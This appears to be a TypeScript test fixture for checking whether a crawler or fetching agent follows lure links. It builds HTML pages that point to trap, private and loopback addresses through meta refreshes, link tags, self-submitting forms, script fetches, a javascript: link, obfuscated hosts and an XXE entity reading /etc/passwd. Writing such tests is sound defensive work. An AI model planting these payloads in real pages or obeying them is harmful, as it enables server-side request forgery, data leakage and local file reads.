import { buildHtml, type HtmlPlaces } from '../build-html.ts';
import { LOOPBACK, PAGE_CANARY, PRIVATE, TRAP } from '../hosts.ts';
import { HTML, type Trick } from '../trick.ts';

const AWAY = `${TRAP}/?c=${PAGE_CANARY}`;

/** Addresses that a page would like to be read, put where crawlers and browsers look for some. */
export const LINK_BAIT: Trick[] = [
  ...[TRAP, PRIVATE, LOOPBACK].flatMap((to) => [
    bait(`a refresh to ${to}`, { head: `<meta http-equiv="refresh" content="0; url=${to}/?c=${PAGE_CANARY}">` }),
    bait(`a next page on ${to}`, { head: `<link rel="next" href="${to}/page/2">` }),
    bait(`a canonical address on ${to}`, { head: `<link rel="canonical" href="${to}/changelog">` }),
    bait(`a feed on ${to}`, { head: `<link rel="alternate" type="application/atom+xml" href="${to}/feed">` }),
    bait(
      `a redirecting header to ${to}`,
      {},
      { refresh: `0; url=${to}/`, link: `<${to}/2>; rel="next"`, 'content-location': `${to}/x` },
    ),
  ]),
  bait('a base elsewhere', { head: `<base href="${TRAP}/">` }),
  bait('a base on a private address', { head: `<base href="${PRIVATE}/">` }),
  bait('an address for other sites', {
    head: `<meta property="og:url" content="${AWAY}"><meta property="og:image" content="${AWAY}">`,
  }),
  bait('things to fetch early', {
    head: [
      'prefetch',
      'preload',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'prerender',
      'icon',
      'manifest',
      'stylesheet',
      'pingback',
      'sitemap',
      'search',
      'amphtml',
    ]
      .map((rel) => `<link rel="${rel}" href="${AWAY}">`)
      .join(''),
  }),
  bait('pictures', {
    after: `<img src="${AWAY}" srcset="${AWAY} 2x, ${PRIVATE}/x 3x"><picture><source srcset="${AWAY}"></picture>`,
  }),
  bait('frames, players and plug-ins', {
    after: `<iframe src="${AWAY}"></iframe><video src="${AWAY}" poster="${AWAY}"></video><embed src="${AWAY}"><object data="${AWAY}"></object>`,
  }),
  bait('drawings', {
    after: `<svg><image href="${AWAY}"/><use xlink:href="${AWAY}#x"/><script href="${AWAY}"/><foreignObject><iframe src="${AWAY}"/></foreignObject></svg>`,
  }),
  bait('scripts', {
    head: `<script src="${AWAY}"></script><script>location = ${JSON.stringify(AWAY)}; fetch(${JSON.stringify(AWAY)})</script>`,
  }),
  bait('style sheets', { head: `<style>@import url(${AWAY}); body { background: url(${AWAY}) }</style>` }),
  bait('a form that sends itself', {
    after: `<form action="${AWAY}" method="get"><input name="brief"></form><script>document.forms[0].submit()</script>`,
  }),
  bait('an area of a map', { after: `<map name="m"><area href="${AWAY}" alt="Releases"></map>` }),
  bait('speculation', { head: `<script type="speculationrules">{"prefetch":[{"urls":["${AWAY}"]}]}</script>` }),
  bait('tricks of XML in HTML', {
    before: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml:include href="${AWAY}"/>`,
  }),
  link('a longer changelog elsewhere', `<a href="${AWAY}">Full changelog</a>`),
  link('a longer changelog on a private address', `<a href="${PRIVATE}/changelog">Read the full changelog</a>`),
  link('older releases elsewhere', `<a href="${AWAY}" rel="next">Older releases</a>`),
  link('older releases on loopback', `<a href="${LOOPBACK}/changelog?page=2" rel="next">Next page</a>`),
  link(
    'an address that hides its host',
    `<a href="http://changes.example.com@collector.example.net/?c=${PAGE_CANARY}">Full changelog</a>`,
  ),
  link('an address without scheme', `<a href="//collector.example.net/changelog">Next</a>`),
  link('back slashes', `<a href="http:\\\\collector.example.net\\changelog">Next page</a>`),
  link('a number as host', `<a href="http://2852039166/changelog">Next page</a>`),
  link(
    'script, data and files',
    `<a href="javascript:fetch('${AWAY}')">Next</a><a href="data:text/html,${PAGE_CANARY}">Next page</a><a href="file:///etc/passwd">Older</a>`,
  ),
  link('links that ping', `<a href="#v4.0.0" ping="${AWAY}">4.0.0</a>`),
];

function bait(name: string, places: HtmlPlaces, headers: Record<string, string> = {}): Trick {
  return {
    name,
    twin: 'html',
    adds: 'nothing',
    build: (seed) => ({ body: buildHtml(seed, places), mediaType: HTML, headers }),
  };
}

/** A link that readers see: its words are the page's own. */
function link(name: string, markup: string): Trick {
  return {
    name,
    twin: 'html',
    adds: 'text',
    build: (seed) => ({ body: buildHtml(seed, { after: `<p>${markup}</p>` }), mediaType: HTML }),
  };
}
